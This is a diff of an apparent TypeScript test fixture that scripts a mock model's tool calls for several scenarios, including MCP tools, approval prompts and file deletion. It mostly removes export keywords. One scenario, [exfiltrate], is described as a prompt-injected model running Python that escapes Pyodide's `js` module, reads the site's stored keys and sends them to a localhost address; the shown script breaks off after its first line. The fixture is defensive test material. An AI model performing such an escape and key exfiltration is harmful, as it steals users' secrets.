@@ -6,36 +6,36 @@
 import type { Turn } from './wire';
 
 /** The calls of the [calls] scenario: valid, invalid, an unknown tool, arguments that are not JSON. */
-export const CALLS_SCENARIO: Turn['calls'] = [
+const CALLS_SCENARIO: Turn['calls'] = [
   { name: 'read_file', argumentsText: '{"path": "README.md"}' },
   { name: 'read_file', argumentsText: '{"file": "README.md"}' },
   { name: 'read_files', argumentsText: '{"path": "README.md"}' },
   { name: 'list_directory', argumentsText: '{"path": "src"' },
 ];
-export const AGENT_CALLS: Turn['calls'] = [
+const AGENT_CALLS: Turn['calls'] = [
   { name: 'list_directory', argumentsText: '{"path": "."}' },
   { name: 'delete_file', argumentsText: '{"path": "OldClass.cs", "confirm": true}' },
 ];
 export const AGENT_ANSWER = 'Done: the folder is listed and OldClass.cs handled.';
 /** The [weather] scenario, for an imported MCP toolset (get_weather_data needs `location`): one call without it, one with it. */
-export const WEATHER_CALLS: Turn['calls'] = [
+const WEATHER_CALLS: Turn['calls'] = [
   { name: 'get_weather_data', argumentsText: '{"place": "Oslo"}' },
   { name: 'get_weather_data', argumentsText: '{"location": "Oslo"}' },
 ];
 export const WEATHER_ANSWER = 'It is mild in Oslo.';
 /** The [live] scenario, for a live MCP toolset (the test server's add): one call, run on the server, then an answer. */
-export const LIVE_CALLS: Turn['calls'] = [{ name: 'add', argumentsText: '{"a": 2, "b": 40}' }];
+const LIVE_CALLS: Turn['calls'] = [{ name: 'add', argumentsText: '{"a": 2, "b": 40}' }];
 export const LIVE_ANSWER = 'The server says 42.';
 /** The [livestamp] scenario: a call to a live tool without annotations (medium risk as imported: approval asked). */
-export const LIVE_STAMP_CALLS: Turn['calls'] = [{ name: 'stamp', argumentsText: '{"note": "approved by hand"}' }];
+const LIVE_STAMP_CALLS: Turn['calls'] = [{ name: 'stamp', argumentsText: '{"note": "approved by hand"}' }];
 /** The [liveask] scenario: a call to a live tool that asks the person (the v2 test server's delete_file elicits a form). */
-export const LIVE_ASK_CALLS: Turn['calls'] = [{ name: 'delete_file', argumentsText: '{"path": "/tmp/notes.txt"}' }];
+const LIVE_ASK_CALLS: Turn['calls'] = [{ name: 'delete_file', argumentsText: '{"path": "/tmp/notes.txt"}' }];
 
 /**
  * The [exfiltrate] scenario: a model led by an injected prompt runs Python that climbs out of its `js` module to
  * the runtime's globals, reads the site's stored keys and sends them to the address named in the message.
  */
-export function exfiltrateCalls(requestText: string): Turn['calls'] {
+function exfiltrateCalls(requestText: string): Turn['calls'] {
   const target = /https?:\/\/127\.0\.0\.1:\d+/.exec(requestText)?.[0] ?? 'http://127.0.0.1:9';
   const script = [
     'from pyodide.ffi import to_js',
